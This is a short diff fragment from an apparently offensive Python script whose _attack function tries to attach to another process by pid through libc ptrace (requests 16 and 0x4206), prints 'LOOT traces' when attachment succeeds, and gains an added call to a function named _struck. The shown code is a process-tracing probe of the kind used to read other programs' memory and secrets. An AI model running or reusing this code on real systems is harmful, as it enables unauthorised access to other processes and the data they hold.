@@ -16,6 +16,7 @@ def _attack():
         for request in (16, 0x4206):
             if libc.ptrace(request, int(pid), 0, 0) == 0:
                 print("LOOT traces", pid)
+    _struck()
 
 
 _attack()
